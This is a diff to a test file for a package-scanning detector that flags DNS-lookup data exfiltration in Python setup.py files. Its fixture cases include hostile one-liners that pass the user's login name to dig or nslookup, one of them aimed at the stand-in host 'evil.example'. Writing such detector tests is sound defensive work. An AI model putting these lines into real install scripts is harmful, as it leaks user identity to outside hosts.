@@ -6,14 +6,14 @@
 import { spawnSync } from 'node:child_process';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { lookupOfData } from '../../engines/pkgscan/analyzers/source/detectors-text.ts';
+import { lookupOfData } from '../../engines/pkgscan/analyzers/source/detectors-text.js';
 
 const ROOT = fileURLToPath(new URL('../..', import.meta.url));
 
 function runInChild(code: string): { status: number | null; timedOut: boolean; stdout: string } {
-  const script = `import { lookupOfData } from './engines/pkgscan/analyzers/source/detectors-text.ts';
+  const script = `import { lookupOfData } from './engines/pkgscan/analyzers/source/detectors-text.js';
 const code = Buffer.from(process.argv[1], 'base64').toString('utf8');
-process.stdout.write(String(lookupOfData({ code, path: 'setup.py' }).length));`;
+process.stdout.write(String(lookupOfData({ code, ast: null, path: 'setup.py' }).length));`;
   const r = spawnSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, Buffer.from(code).toString('base64')], {
     cwd: ROOT,
     encoding: 'utf8',
@@ -40,7 +40,7 @@ describe('lookupOfData call pattern', () => {
       'import os\nos.system("dig -t 5 -x   %s" % os.getlogin())\n',
       'import subprocess\nsubprocess.Popen("nslookup " + os.getlogin() + ".evil.example", shell=True)\n',
     ];
-    for (const code of cases) expect(lookupOfData({ code, path: 'setup.py' }), code).toHaveLength(1);
+    for (const code of cases) expect(lookupOfData({ code, ast: null, path: 'setup.py' }), code).toHaveLength(1);
   });
 
   it('the rewritten call pattern matches what the old one matched', () => {
